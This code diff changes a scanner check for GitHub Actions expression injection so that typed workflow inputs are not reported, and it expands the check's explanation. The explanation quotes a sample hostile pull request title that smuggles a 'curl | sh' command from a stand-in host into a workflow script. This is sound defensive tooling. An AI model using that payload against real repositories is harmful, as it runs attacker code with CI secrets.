@@ -1,6 +1,6 @@
 import { ciModel, expressionLocation, expressionsIn, parseUses, type CiStep } from '../../targets/ci/jobs.js';
 import { CONTEXT_PATH, workflowTaint } from '../../targets/ci/taint.js';
-import { asString } from '../../targets/yaml/read.js';
+import { asRecord, asString } from '../../targets/yaml/read.js';
 import type { YamlPath } from '../../targets/yaml/source.js';
 import { defineCheck } from '../define.js';
 
@@ -24,6 +24,22 @@ const CODE_INPUTS: ReadonlyMap<string, readonly string[]> = new Map([
   ['mikefarah/yq', ['cmd']],
 ]);
 
+/**
+ * Inputs declared boolean, number or choice (of workflow_dispatch) wherever they are declared:
+ * GitHub checks their value, which cannot hold shell text.
+ */
+function typedInputs(on: unknown): ReadonlySet<string> {
+  const safe = new Map<string, boolean>();
+  for (const event of ['workflow_dispatch', 'workflow_call']) {
+    for (const [name, input] of Object.entries(asRecord(asRecord(asRecord(on)?.[event])?.inputs) ?? {})) {
+      const type = asString(asRecord(input)?.type)?.trim();
+      const checked = type === 'boolean' || type === 'number' || (type === 'choice' && event === 'workflow_dispatch');
+      safe.set(name, (safe.get(name) ?? true) && checked);
+    }
+  }
+  return new Set([...safe].filter(([, checked]) => checked).map(([name]) => name));
+}
+
 function codeInputs(uses: string | undefined): readonly string[] {
   return uses === undefined ? [] : (CODE_INPUTS.get(parseUses(uses).action.toLowerCase()) ?? []);
 }
@@ -37,7 +53,11 @@ export const expressionInjection = defineCheck({
     '`${{ }}` expressions are substituted into the script text before the shell runs it. A pull request title, issue ' +
     'body, comment, branch name or commit message is written by whoever opens it, so a title like ' +
     '`"; curl -sSf https://evil.example/x | sh; #` becomes shell code that runs with the job\'s token and secrets. ' +
-    'The same goes for the `script:` of actions/github-script, which is JavaScript.',
+    'The same goes for the `script:` of actions/github-script, which is JavaScript, and for the inputs other actions ' +
+    'run as code. A value keeps its origin through env:, step and job outputs, GITHUB_ENV and matrices within the ' +
+    'workflow. Inputs of workflow_dispatch are low: only users with write access can dispatch; those of ' +
+    'workflow_call medium: the caller may pass a pull request title. Boolean, number and choice inputs cannot hold ' +
+    'shell text and are not reported.',
   fix: [
     'Pass the value through an environment variable and quote it; the shell then treats it as data:',
     '',
@@ -97,6 +117,7 @@ export const expressionInjection = defineCheck({
     if (model.jobs.length === 0) return ctx.notApplicable();
     const callable = model.triggers.some((trigger) => trigger.event === 'workflow_call');
     const taint = workflowTaint(model);
+    const typed = typedInputs(workflow.data.on);
     const scan = (text: string, path: YamlPath, step: CiStep, place: string, env: ReadonlyMap<string, string>) => {
       if (!text.includes('${{')) return;
       const keyLocation = workflow.at(path);
@@ -109,7 +130,7 @@ export const expressionInjection = defineCheck({
           if (origin === undefined) return [];
           return origin === candidate ? [candidate] : [`${candidate} (${origin})`];
         });
-        const inputs = untrusted.length > 0 ? [] : paths.filter((candidate) => INPUT.test(candidate));
+        const inputs = untrusted.length > 0 ? [] : paths.filter((candidate) => INPUT.test(candidate) && !typed.has(candidate.split('.').pop()!));
         if (untrusted.length === 0 && inputs.length === 0) continue;
         const at = expressionLocation(workflow, keyLocation, text, expression);
         const where = `${step.where}@${expression.offset}`;
